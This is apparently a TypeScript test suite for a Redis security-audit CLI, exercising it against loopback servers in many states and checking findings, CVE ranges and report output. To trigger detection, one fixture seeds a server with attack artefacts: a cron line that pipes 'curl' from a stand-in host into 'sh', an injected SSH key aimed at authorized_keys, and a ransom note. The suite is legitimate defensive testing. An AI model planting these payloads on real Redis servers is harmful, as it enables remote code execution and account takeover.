// redoubt audit against real endpoints on loopback: redis-server 7.0 in every state (open,
// requirepass, protected mode seen from 127.0.0.2, BUSY, an ACL user without INFO), Redoubt with
// trusted-networks and TLS-only, an HTTP server, a closed port, a /29 range; each hardening
// check on a server configured to trip it; the JSON schema, --fail-on and the refused --password.

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import http from 'node:http';
import net from 'node:net';
import { REDOUBT_MAIN, freePort, startRedis, startRedoubt, type RunningServer } from './helpers/servers.js';
import { RawClient, command } from './helpers/raw-client.js';
import { expandRange, parsePorts, parseTarget } from '../src/audit/targets.js';
import { isAffected, CVES } from '../src/audit/cves.js';
import { HARDENING_CHECKS as CHECKS } from '../src/hardening/checks.js';
import { STATES } from '../src/audit/classify.js';
import { fileURLToPath } from 'node:url';

interface JsonFinding {
  id: string;
  severity: string;
  cve: string | null;
  evidence: string;
  confidence: string;
}
interface JsonEndpoint {
  target: string;
  state: string;
  reason: string;
  product: string | null;
  version: string | null;
  authenticatedAs: string | null;
  fingerprint: { product: string; role: string | null; packaging: { distribution: string | null; suspected: boolean }; modules: { name: string }[]; archBits: number | null; os: string | null } | null;
  findings: JsonFinding[];
  notes: string[];
}
interface JsonReport {
  schema: string;
  summary: { endpoints: number; states: Record<string, number>; findings: Record<string, number> };
  endpoints: JsonEndpoint[];
}

/** Runs the built CLI asynchronously (in-process listeners keep answering meanwhile). */
function runCli(args: string[], env: Record<string, string> = {}): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [REDOUBT_MAIN, 'audit', ...args], { env: { ...process.env, REDOUBT_AUDIT_PASSWORD: '', ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('exit', (code) => resolve({ code, stdout, stderr }));
  });
}

async function audit(args: string[], env: Record<string, string> = {}): Promise<JsonReport> {
  const r = await runCli([...args, '--json', '--timeout', '2000'], env);
  assert.ok(r.stdout.startsWith('{'), `JSON expected, got ${r.stdout}\n${r.stderr}`);
  return JSON.parse(r.stdout) as JsonReport;
}

async function auditOne(target: string, args: string[] = [], env: Record<string, string> = {}): Promise<JsonEndpoint> {
  const report = await audit([target, ...args], env);
  assert.equal(report.endpoints.length, 1);
  return report.endpoints[0]!;
}

const ids = (e: JsonEndpoint): string[] => e.findings.map((f) => f.id);
const finding = (e: JsonEndpoint, id: string): JsonFinding => {
  const f = e.findings.find((x) => x.id === id);
  assert.ok(f, `${e.target} should have ${id}; has ${ids(e).join(', ')}`);
  return f;
};

let dir: string;
const servers: RunningServer[] = [];
const children: ChildProcess[] = [];
async function redis(args: string[]): Promise<RunningServer> {
  const s = await startRedis(args);
  servers.push(s);
  return s;
}

/** A tiny Redis module (no redismodule.h needed) named `name`, or null without a C compiler. */
function buildModule(name: string): string | null {
  const src = join(dir, `${name}.c`);
  const so = join(dir, `${name}.so`);
  writeFileSync(
    src,
    `typedef struct Ctx Ctx;
static int (*get_api)(const char *, void *);
static int (*set_attribs)(Ctx *, const char *, int, int);
int RedisModule_OnLoad(Ctx *ctx, void **argv, int argc) {
  (void)argv; (void)argc;
  get_api = (int (*)(const char *, void *))(unsigned long)((void **)ctx)[0];
  if (get_api("RedisModule_SetModuleAttribs", (void *)&set_attribs) != 0) return 1;
  set_attribs(ctx, "${name}", 3, 1);
  return 0;
}
`,
  );
  const r = spawnSync('cc', ['-shared', '-fPIC', '-o', so, src], { stdio: 'pipe' });
  return r.status === 0 ? so : null;
}

before(() => {
  dir = mkdtempSync(join(tmpdir(), 'redoubt-auditor-'));
});

after(async () => {
  for (const s of servers) await s.stop();
  for (const c of children) if (c.exitCode === null) c.kill('SIGTERM');
  rmSync(dir, { recursive: true, force: true });
});

describe('target parsing', () => {
  test('host, host:port, [v6]:port, ports list and ranges', () => {
    assert.deepEqual(parseTarget('10.0.0.1', [6379, 6380]), [
      { host: '10.0.0.1', port: 6379, origin: 'named' },
      { host: '10.0.0.1', port: 6380, origin: 'named' },
    ]);
    assert.deepEqual(parseTarget('[::1]:7000', [6379]), [{ host: '::1', port: 7000, origin: 'named' }]);
    assert.deepEqual(parseTarget('::1', [6379], 'input'), [{ host: '::1', port: 6379, origin: 'input' }]);
    assert.deepEqual(parsePorts('6379,7000-7002'), [6379, 7000, 7001, 7002]);
    assert.deepEqual(expandRange('127.0.0.5/30'), ['127.0.0.4', '127.0.0.5', '127.0.0.6', '127.0.0.7']);
    assert.deepEqual(expandRange('fd00::3/127'), ['fd00::2', 'fd00::3']);
    assert.equal(expandRange('10.0.0.0/20').length, 4096);
    assert.throws(() => expandRange('10.0.0.0/19'), /8192 addresses; at most 4096/);
    assert.throws(() => parseTarget('host:99999', [6379]), /Invalid port/);
  });

  test('CVE ranges: fixed per branch, unfixed older branches, newer branches clean', () => {
    const cve = CVES.find((c) => c.id === 'CVE-2025-49844')!;
    assert.equal(isAffected(cve, '7.2.10'), true);
    assert.equal(isAffected(cve, '7.2.11'), false);
    assert.equal(isAffected(cve, '7.0.15'), true, '7.0 never got the fix');
    assert.equal(isAffected(cve, '8.4.0'), false);
    const old = CVES.find((c) => c.id === 'CVE-2021-32675')!;
    assert.equal(isAffected(old, '6.0.15'), true);
    assert.equal(isAffected(old, '6.0.16'), false);
    assert.equal(isAffected(old, '7.0.0'), false);
    assert.equal(isAffected(old, '4.0.14'), true);
  });
});

test('docs/audit.md names every state, check and CVE of the code', () => {
  const doc = readFileSync(fileURLToPath(new URL('../../docs/audit.md', import.meta.url)), 'utf8');
  for (const s of STATES) assert.ok(doc.includes(`| \`${s}\` |`), `state ${s}`);
  for (const c of CHECKS) assert.ok(doc.includes(`| \`${c.id}\` |`), `check ${c.id}`);
  for (const c of CVES) assert.ok(doc.includes(`| ${c.id} |`), `CVE ${c.id}`);
});

describe('states of redis-server 7.0', () => {
  test('open (protected mode off): fingerprint, CVEs by version, and the open-server checks', async () => {
    const s = await redis(['--protected-mode', 'no']);
    const e = await auditOne(`127.0.0.1:${s.port}`);
    assert.equal(e.state, 'open');
    assert.equal(e.product, 'redis');
    assert.equal(e.version, '7.0.15');
    assert.equal(e.fingerprint?.role, 'master');
    assert.equal(e.fingerprint.archBits, 64);
    // The Debian package links the system jemalloc 5.3.0, where upstream 7.0 bundles 5.2.1.
    assert.equal(e.fingerprint.packaging.distribution, 'debian');
    assert.equal(e.fingerprint.packaging.suspected, true);
    // Bound to loopback only: the missing password is a local matter, not an open door.
    assert.equal(finding(e, 'default-user-nopass').severity, 'low');
    assert.equal(finding(e, 'protected-mode-off').severity, 'low');
    for (const id of ['eol-branch', 'cve-2025-49844', 'cve-2025-21605', 'cve-2024-31449', 'cve-2025-32023']) finding(e, id);
    // Commands run for anyone here, so a session-only CVE keeps its severity.
    assert.equal(finding(e, 'cve-2025-49844').severity, 'critical');
    // A distribution build: the version is in the range, the package may carry the fix.
    assert.equal(finding(e, 'cve-2025-49844').confidence, 'possible');
    assert.match(finding(e, 'cve-2025-49844').evidence, /^version in an affected range; a distribution may have backported the fix/);
    assert.equal(finding(e, 'cve-2025-21605').cve, 'CVE-2025-21605');
    assert.match(finding(e, 'cve-2025-21605').evidence, /reachable before authentication/);
    // redis-check-aof is a local tool: low whatever the exposure.
    assert.equal(finding(e, 'cve-2025-27151').severity, 'low');
    // Fixed before 7.0.15, not this packaging era, another branch, or network-only findings on loopback: absent.
    for (const id of ['cve-2021-32675', 'cve-2022-0543', 'cve-2023-41056', 'cve-2026-23479', 'cve-2025-62507', 'open-door', 'no-tls', 'no-idle-timeout', 'no-maxmemory', 'unrestricted-users', 'bind-all-interfaces', 'attack-keys', 'file-write-target', 'enable-debug-command', 'unexpected-master', 'loaded-modules', 'unlimited-output-buffers']) {
      assert.ok(!ids(e).includes(id), `${id} should not be reported`);
    }
  });

  test('requirepass: auth-required; with the password from the environment the checks run', async () => {
    const s = await redis(['--requirepass', 'audit-secret-1']);
    const anon = await auditOne(`127.0.0.1:${s.port}`);
    assert.equal(anon.state, 'auth-required');
    assert.match(anon.reason, /^NOAUTH/);
    assert.deepEqual(anon.findings, []);
    assert.equal(anon.fingerprint, null);

    const authed = await auditOne(`127.0.0.1:${s.port}`, ['--allow-plaintext-auth'], { REDOUBT_AUDIT_PASSWORD: 'audit-secret-1' });
    assert.equal(authed.state, 'auth-required');
    assert.equal(authed.authenticatedAs, 'default');
    assert.equal(authed.version, '7.0.15');
    assert.ok(!ids(authed).includes('default-user-nopass'));
    assert.ok(!ids(authed).includes('weak-password'), 'a password not in the common list');
    // A Lua CVE needs a session here: critical becomes high.
    assert.equal(finding(authed, 'cve-2025-49844').severity, 'high');
    assert.equal(finding(authed, 'cve-2025-21605').severity, 'high');
    assert.ok(!JSON.stringify(authed).includes('audit-secret-1'), 'the password never appears in the report');

    const wrong = await auditOne(`127.0.0.1:${s.port}`, ['--allow-plaintext-auth'], { REDOUBT_AUDIT_PASSWORD: 'nope' });
    assert.equal(wrong.authenticatedAs, null);
    assert.ok(wrong.notes.some((n) => /credentials refused: WRONGPASS/.test(n)), wrong.notes.join('\n'));
  });

  test('protected mode: DENIED to a client from 127.0.0.2, open from 127.0.0.1', async () => {
    const s = await redis([]);
    const far = await auditOne(`127.0.0.1:${s.port}`, ['--source', '127.0.0.2']);
    assert.equal(far.state, 'protected-mode');
    assert.equal(finding(far, 'default-user-nopass').severity, 'medium');
    assert.ok(!ids(far).includes('open-door'));
    const near = await auditOne(`127.0.0.1:${s.port}`);
    assert.equal(near.state, 'open');
    assert.ok(!ids(near).includes('protected-mode-off'));
  });

  test('busy: a script running past busy-reply-threshold', async () => {
    const s = await redis(['--protected-mode', 'no', '--busy-reply-threshold', '100']);
    const runner = await RawClient.connect(s.port);
    runner.write(RawClient.encode(['EVAL', 'while true do end', '0']));
    await new Promise((r) => setTimeout(r, 300));
    try {
      const e = await auditOne(`127.0.0.1:${s.port}`);
      assert.equal(e.state, 'busy');
      assert.match(e.reason, /^BUSY/);
    } finally {
      assert.match(await command(s.port, 'SCRIPT', 'KILL'), /^\+OK/);
      runner.close();
    }
  });

  test('an ACL default user without INFO, and a named user without INFO', async () => {
    const s = await redis(['--protected-mode', 'no']);
    assert.equal(await command(s.port, 'ACL', 'SETUSER', 'limited', 'on', '>limited-pw', '~*', '+@all', '-info', '-config'), '+OK\r\n');
    assert.equal(await command(s.port, 'ACL', 'SETUSER', 'default', '-info'), '+OK\r\n');
    const anon = await auditOne(`127.0.0.1:${s.port}`);
    assert.equal(anon.state, 'auth-required');
    assert.match(anon.reason, /^NOPERM.*'info'.*default user needs no password/);
    finding(anon, 'default-user-nopass');

    const named = await auditOne(`127.0.0.1:${s.port}`, ['--user', 'limited', '--allow-plaintext-auth'], { REDOUBT_AUDIT_PASSWORD: 'limited-pw' });
    assert.equal(named.authenticatedAs, 'limited');
    assert.equal(named.fingerprint, null);
    assert.ok(named.notes.some((n) => /INFO not permitted for user limited: NOPERM/.test(n)), named.notes.join('\n'));
    assert.ok(named.notes.some((n) => /CONFIG GET not permitted/.test(n)));
    // ACL LIST is still allowed to it: the default user's rules are read.
    assert.match(finding(named, 'default-user-nopass').evidence, /^ACL LIST: user default on nopass/);
    assert.ok(!ids(named).includes('unrestricted-users'), 'users with a command taken away are not unrestricted');
  });
});

describe('hardening checks on a compromised-looking server', () => {
  let master: RunningServer;
  let victim: RunningServer;
  let replica: RunningServer;
  let hasModules = false;

  before(async () => {
    const benign = buildModule('auditprobe');
    const rogue = buildModule('system');
    hasModules = benign !== null && rogue !== null;
    const ssh = join(dir, 'home', '.ssh');
    mkdirSync(ssh, { recursive: true });
    master = await redis(['--protected-mode', 'no']);
    victim = await redis([
      '--protected-mode', 'no',
      '--enable-debug-command', 'yes',
      '--enable-module-command', 'local',
      '--dir', ssh,
      '--dbfilename', 'authorized_keys',
      '--client-output-buffer-limit', 'pubsub 0 0 0',
      ...(benign ? ['--loadmodule', benign] : []),
    ]);
    for (const [k, v] of [['crackit', '\n\nssh-rsa AAAA attacker\n\n'], ['backup1', '*/2 * * * * root curl -fsSL http://203.0.113.9/x | sh'], ['READ_ME_TO_RECOVER_YOUR_DATA', 'send BTC'], ['user:1', 'ok']]) {
      assert.equal(await command(victim.port, 'SET', k!, v!), '+OK\r\n');
    }
    replica = await redis(['--protected-mode', 'no', '--replicaof', '127.0.0.1', String(master.port), ...(rogue ? ['--loadmodule', rogue] : [])]);
  });

  test('attack keys, file-write target, DEBUG/MODULE gates, unlimited buffers, modules', async () => {
    const e = await auditOne(`127.0.0.1:${victim.port}`);
    assert.equal(e.state, 'open');
    const keys = finding(e, 'attack-keys');
    assert.equal(keys.severity, 'critical');
    assert.match(keys.evidence, /"crackit"/);
    assert.match(keys.evidence, /"backup1"/);
    assert.match(keys.evidence, /"READ_ME_TO_RECOVER_YOUR_DATA"/);
    assert.doesNotMatch(keys.evidence, /user:1/);
    assert.match(finding(e, 'file-write-target').evidence, /\.ssh is an SSH key directory; dbfilename authorized_keys/);
    const debug = finding(e, 'enable-debug-command');
    assert.equal(debug.severity, 'high');
    assert.match(debug.evidence, /enable-debug-command yes/);
    assert.equal(finding(e, 'enable-module-command').severity, 'medium');
    assert.match(finding(e, 'unlimited-output-buffers').evidence, /pubsub/);
    if (hasModules) {
      const mods = finding(e, 'loaded-modules');
      assert.equal(mods.severity, 'low');
      assert.match(mods.evidence, /auditprobe \(ver 3\)/);
    }
  });

  test('an unexpected replication master (and --expect-master), a module with an exploit kit name', async () => {
    const e = await auditOne(`127.0.0.1:${replica.port}`);
    assert.equal(e.fingerprint?.role, 'slave');
    assert.match(finding(e, 'unexpected-master').evidence, new RegExp(`master 127\\.0\\.0\\.1:${master.port}`));
    if (hasModules) assert.equal(finding(e, 'loaded-modules').severity, 'critical');
    const expected = await auditOne(`127.0.0.1:${replica.port}`, ['--expect-master', `127.0.0.1:${master.port}`]);
    assert.ok(!ids(expected).includes('unexpected-master'));
  });

  test('bind to all interfaces, inside a network namespace that has only loopback', (t) => {
    const probe = spawnSync('unshare', ['-rn', 'true'], { stdio: 'pipe' });
    if (probe.status !== 0) {
      t.skip('unshare -rn (user and network namespaces) is not available here');
      return;
    }
    // The wildcard bind never meets a real interface: the namespace holds only lo.
    const script = [
      'ip link set lo up',
      `redis-server --port 6390 --bind "* -::*" --requirepass ns-secret --save "" --appendonly no --daemonize no >/dev/null 2>&1 &`,
      'pid=$!',
      'for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/6390) 2>/dev/null && break; sleep 0.1; done',
      `"${process.execPath}" "${REDOUBT_MAIN}" audit 127.0.0.1:6390 --json --timeout 2000 --allow-plaintext-auth`,
      'kill $pid',
    ].join('\n');
    const r = spawnSync('unshare', ['-rn', 'bash', '-c', script], { encoding: 'utf8', env: { ...process.env, REDOUBT_AUDIT_PASSWORD: 'ns-secret' }, timeout: 20000 });
    const report = JSON.parse(r.stdout) as JsonReport;
    const e = report.endpoints[0]!;
    assert.equal(e.authenticatedAs, 'default');
    assert.match(finding(e, 'bind-all-interfaces').evidence, /bind "\* -::\*"/);
    // Bound to every interface: the exposure is the network's, so the plaintext port is a finding.
    assert.equal(finding(e, 'no-tls').severity, 'medium');
  });
});

describe('Redoubt, other listeners, closed ports, ranges', () => {
  test('trusted-networks closing at accept → ip-allowlisted; from inside the range → open Redoubt', async () => {
    const s = await startRedoubt(['--bind', '127.0.0.1', '--trusted-networks', '127.0.0.1/32']);
    servers.push(s);
    const far = await auditOne(`127.0.0.1:${s.port}`, ['--source', '127.0.0.2']);
    assert.equal(far.state, 'ip-allowlisted');
    assert.match(far.reason, /without reading or sending a byte/);
    const near = await auditOne(`127.0.0.1:${s.port}`);
    assert.equal(near.state, 'open');
    assert.equal(near.product, 'redoubt');
    assert.equal(near.version, '0.1.0');
    assert.ok(!near.findings.some((f) => f.cve !== null), 'Redis CVEs are not mapped onto Redoubt');
  });

  test('TLS-only Redoubt: tls-required in plaintext; audited over TLS with --cacert; untrusted without it', async () => {
    const ossl = (...a: string[]): void => void execFileSync('openssl', a, { stdio: 'pipe' });
    const ec = ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes'];
    ossl('req', '-x509', '-new', ...ec, '-keyout', join(dir, 'ca.key'), '-out', join(dir, 'ca.crt'), '-days', '2', '-subj', '/CN=audit-ca');
    writeFileSync(join(dir, 'srv.ext'), 'subjectAltName=IP:127.0.0.1\nextendedKeyUsage=serverAuth\n');
    ossl('req', '-new', ...ec, '-keyout', join(dir, 'srv.key'), '-out', join(dir, 'srv.csr'), '-subj', '/CN=localhost');
    ossl('x509', '-req', '-in', join(dir, 'srv.csr'), '-CA', join(dir, 'ca.crt'), '-CAkey', join(dir, 'ca.key'), '-CAcreateserial', '-out', join(dir, 'srv.crt'), '-days', '2', '-extfile', join(dir, 'srv.ext'));
    const port = await freePort();
    const child = spawn(process.execPath, [REDOUBT_MAIN, '--port', '0', '--tls-port', String(port), '--bind', '127.0.0.1', '--tls-cert-file', join(dir, 'srv.crt'), '--tls-key-file', join(dir, 'srv.key'), '--tls-auth-clients', 'no'], { stdio: 'ignore' });
    children.push(child);
    for (let i = 0; i < 200; i++) {
      const up = await new Promise<boolean>((resolve) => {
        const c = net.connect({ port, host: '127.0.0.1' }, () => {
          c.destroy();
          resolve(true);
        });
        c.on('error', () => resolve(false));
      });
      if (up) break;
      await new Promise((r) => setTimeout(r, 25));
    }
    const plain = await auditOne(`127.0.0.1:${port}`);
    assert.equal(plain.state, 'tls-required');
    assert.match(plain.reason, /TLS handshake succeeded/);
    const secure = await auditOne(`127.0.0.1:${port}`, ['--tls', '--cacert', join(dir, 'ca.crt')]);
    assert.equal(secure.state, 'open');
    assert.equal(secure.product, 'redoubt');
    assert.ok(!ids(secure).includes('no-tls'));
    const untrusted = await auditOne(`127.0.0.1:${port}`, ['--tls']);
    assert.equal(untrusted.state, 'error');
    assert.match(untrusted.reason, /certificate not trusted/);
    const insecure = await auditOne(`127.0.0.1:${port}`, ['--tls', '--insecure']);
    assert.equal(insecure.state, 'open');
  });

  test('redis-server TLS-only resets plaintext: tls-required', async () => {
    const port = await freePort();
    const child = spawn('redis-server', ['--port', '0', '--tls-port', String(port), '--bind', '127.0.0.1', '--tls-cert-file', join(dir, 'srv.crt'), '--tls-key-file', join(dir, 'srv.key'), '--tls-auth-clients', 'no', '--save', '', '--appendonly', 'no'], { stdio: 'ignore' });
    children.push(child);
    await new Promise((r) => setTimeout(r, 400));
    const e = await auditOne(`127.0.0.1:${port}`);
    assert.equal(e.state, 'tls-required');
  });

  test('an HTTP server is not-redis; a closed port is unreachable', async () => {
    const srv = http.createServer((_req, res) => res.end('hello'));
    await new Promise<void>((r) => srv.listen(0, '127.0.0.1', r));
    const port = (srv.address() as net.AddressInfo).port;
    let sawRequestLine = '';
    srv.on('connection', (sock: net.Socket) => sock.once('data', (d: Buffer) => (sawRequestLine ||= d.toString('latin1').slice(0, 4))));
    try {
      const e = await auditOne(`127.0.0.1:${port}`);
      assert.equal(e.state, 'not-redis');
      assert.match(e.reason, /^HTTP server \(HTTP\/1\.1 400/);
      assert.equal(sawRequestLine, '*1\r\n', 'the first bytes sent are RESP, never HTTP');
    } finally {
      srv.close();
    }
    const closed = await freePort();
    const u = await auditOne(`127.0.0.1:${closed}`);
    assert.equal(u.state, 'unreachable');
    assert.match(u.reason, /ECONNREFUSED/);
  });

  test('a /29 range prints the table and the summary', async () => {
    const s = await redis(['--protected-mode', 'no']);
    const r = await runCli(['--range', '127.0.0.0/29', '--ports', String(s.port), '--timeout', '1500', '--concurrency', '4']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^TARGET +STATE +PRODUCT +FINDINGS +DETAIL$/m);
    assert.match(r.stdout, new RegExp(`^127\\.0\\.0\\.1:${s.port} +open +redis 7\\.0\\.15`, 'm'));
    assert.match(r.stdout, new RegExp(`^127\\.0\\.0\\.6:${s.port} +unreachable`, 'm'));
    assert.match(r.stdout, /^8 endpoints: 1 open, 7 unreachable; findings: /m);
  });
});

describe('output and exit codes', () => {
  test('--json schema, --fail-on, --html, and --password refused', async () => {
    const open = await redis(['--protected-mode', 'no']);
    const locked = await redis(['--requirepass', 'x-locked']);
    const report = await audit([`127.0.0.1:${open.port}`, `127.0.0.1:${locked.port}`]);
    assert.equal(report.schema, 'redoubt-audit/1');
    assert.equal(report.summary.endpoints, 2);
    assert.equal(report.summary.states['open'], 1);
    assert.equal(report.summary.states['auth-required'], 1);
    for (const e of report.endpoints) {
      for (const key of ['target', 'state', 'product', 'version', 'findings']) assert.ok(key in e, key);
      for (const f of e.findings) for (const key of ['id', 'severity', 'cve']) assert.ok(key in f, key);
    }
    assert.equal(report.summary.findings['critical'], report.endpoints[0]!.findings.filter((f) => f.severity === 'critical').length);

    assert.equal((await runCli([`127.0.0.1:${open.port}`, '--fail-on', 'critical'])).code, 1);
    assert.equal((await runCli([`127.0.0.1:${locked.port}`, '--fail-on', 'low'])).code, 0);
    const bad = await runCli([`127.0.0.1:${locked.port}`, '--password', 'x']);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /REDOUBT_AUDIT_PASSWORD/);
    assert.equal((await runCli(['--range', '10.0.0.0/16'])).code, 2);
    const noTty = await runCli([`127.0.0.1:${locked.port}`, '--user', 'x']);
    assert.equal(noTty.code, 2);
    assert.match(noTty.stderr, /No password: set REDOUBT_AUDIT_PASSWORD/);

    const file = join(dir, 'report.html');
    const h = await runCli([`127.0.0.1:${open.port}`, `127.0.0.1:${locked.port}`, '--html', file]);
    assert.equal(h.code, 0);
    const page = readFileSync(file, 'utf8');
    assert.match(page, /<svg/);
    assert.doesNotMatch(page, /<script|<link|src=|@import|url\(/i, 'no external resources or scripts');
    assert.match(page, new RegExp(`127\\.0\\.0\\.1:${locked.port}`));
  });
});
